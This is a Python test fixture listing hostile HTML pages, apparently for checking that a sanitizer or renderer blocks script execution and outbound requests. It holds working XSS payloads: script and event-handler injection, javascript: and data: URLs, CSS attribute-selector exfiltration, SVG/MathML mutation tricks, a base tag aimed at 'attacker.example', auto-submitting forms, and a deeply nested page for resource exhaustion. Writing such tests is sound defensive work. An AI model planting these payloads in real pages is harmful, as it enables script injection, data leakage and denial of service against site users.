# ruff: noqa: E501 -- pages, as they are written
"""Pages that try to run, or to reach a server; ``{x}`` is its address."""

HOSTILE = {
    "script": "<script>document.title='ran';new Image().src='{x}script'</script>"
    "<img src=x onerror=\"new Image().src='{x}handler'\"><body onload=\"location='{x}load'\">",
    "refresh": "<meta http-equiv=refresh content='0;url={x}refresh'>",
    "worker": "<script>navigator.serviceWorker.register('/sw.js')</script>"
    "<link rel=serviceworker href={x}worker>",
    "css": "<style>@import '{x}import';@import url({x}url);"
    "input[value^=a]{{background:url({x}attribute)}}"
    "a{{background:u\\72l({x}escape);b:image-set('{x}set' 1x)}}"
    "c{{d:image-set(}}'{x}nested')}}</style>"
    "<input value=a><a style=\"background:url('{x}inline')\">x</a><!--",
    "base": "<base href={x}><img src=base.png><base href='//attacker.example/b/'>",
    "links": "<a id=l href=javascript:document.title='ran'>link</a>"
    "<a href=' jav&#x09;ascript:document.title=1'>other</a><iframe src=javascript:alert(1)></iframe>"
    "<iframe src='data:text/html,<script>top.x=1</script><img src={x}data>'></iframe>",
    "svg": "<svg onload=\"location='{x}svg'\"><script>document.title='ran'</script>"
    "<image href={x}image /><style>*{{fill:url({x}fill)}}</style><a href={x}a><set attributeName=href "
    "to={x}set /></a><foreignObject><iframe srcdoc='<img src={x}srcdoc>'></iframe></foreignObject></svg>"
    "<svg><style><img src={x}mutation></style></svg>"
    "<math><mi><style><img src={x}math></style></mi></math>",
    "hints": "<link rel=preload as=image href={x}preload><link rel=prefetch href={x}prefetch>"
    "<link rel=preconnect href={x}><link rel=dns-prefetch href={x}><link rel=stylesheet href={x}css>"
    "<link rel=icon href={x}icon><link rel=manifest href={x}manifest>",
    "embeds": "<object data={x}object></object><embed src={x}embed><applet code={x}applet></applet>"
    "<video src={x}video poster={x}poster autoplay></video><audio src={x}audio autoplay></audio>"
    "<img srcset='{x}set 1x'><table background={x}table><frame src={x}frame><input type=image src={x}i>"
    "<iframe src={x}iframe></iframe><bgsound src={x}sound><track src={x}track>",
    "forms": "<form action={x}form><input name=a autofocus onfocus=this.form.submit()>"
    "<button id=b formaction={x}formaction>send</button></form>",
    "nested": "<div>" * 500_000,
}
